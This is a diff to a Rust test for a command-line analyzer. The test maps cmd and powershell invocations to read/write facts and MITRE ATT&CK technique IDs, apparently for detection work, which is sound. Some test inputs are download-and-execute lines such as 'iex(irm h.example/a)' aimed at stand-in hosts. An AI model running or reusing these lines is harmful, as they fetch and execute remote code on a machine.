@@ -236,18 +236,30 @@ fn facts_follow_from_the_entry() {
 fn facts_of_shells() {
     for (line, expected) in [
         (r"cmd /c copy /y C:\a C:\b", r"Reads C:\a; Writes C:\b; Technique T1059.003"),
-        (r#"cmd /c "cd /d C:\x & copy a b & ver > c""#, r"Reads C:\x\a; Writes C:\x\b; Writes C:\x\c; Technique T1059.003"),
+        (
+            r#"cmd /c "cd /d C:\x & copy a b & ver > c""#,
+            r"Reads C:\x\a; Writes C:\x\b; Writes C:\x\c; Technique T1059.003",
+        ),
         (r#"cmd /c copy "C:\x y\" C:\b"#, r"Reads C:\x y; Writes C:\b; Technique T1059.003"),
         ("cmd /c ver > nul", "Technique T1059.003"),
-        ("powershell -c iex(irm h.example/a)", "Address http://h.example/a; Host h.example; Technique T1105; Code iex(irm h.example/a); Language powershell; Technique T1059.001"),
-        (r"powershell $x=IRM('https://h/a') -o C:\b;calc", r"Address https://h/a; Host h; Writes C:\b; Technique T1105; Code $x=IRM('https://h/a') -o C:\b;calc; Language powershell; Technique T1059.001"),
-        ("powershell -c 'irm h/a'", "Code irm h/a; Language powershell; Technique T1059.001"),
+        (
+            "powershell -c iex(irm h.example/a)",
+            "Address http://h.example/a; Host h.example; Technique T1105; Code iex(irm h.example/a); Language powershell; Technique T1059.001",
+        ),
+        (
+            r"powershell $x=IRM('https://h/a') -o C:\b;calc",
+            r"Address https://h/a; Host h; Writes C:\b; Technique T1105; Code $x=IRM('https://h/a') -o C:\b;calc; Language powershell; Technique T1059.001",
+        ),
+        ("powershell -c 'irm h/a'", "Code 'irm h/a'; Language powershell; Technique T1059.001"),
         ("powershell -c copy a b", "Code copy a b; Language powershell; Technique T1059.001"),
         (r"powershell -file C:\a.ps1", r"Runs C:\a.ps1; Script C:\a.ps1; Technique T1059.001"),
     ] {
         let (command, arguments) = line.split_once(' ').unwrap();
-        let exec =
-            Exec { command: Some(command.into()), arguments: Some(arguments.into()), working_directory: None };
+        let exec = Exec {
+            command: Some(command.into()),
+            arguments: Some(arguments.into()),
+            working_directory: None,
+        };
         let first = command::read(&exec, &programs(), &Work::unlimited()).list.swap_remove(0);
         let found = first.facts.list.iter().skip(1).map(|fact| format!("{:?} {}", fact.kind, fact.value));
         let mut found: Vec<String> = found.collect();
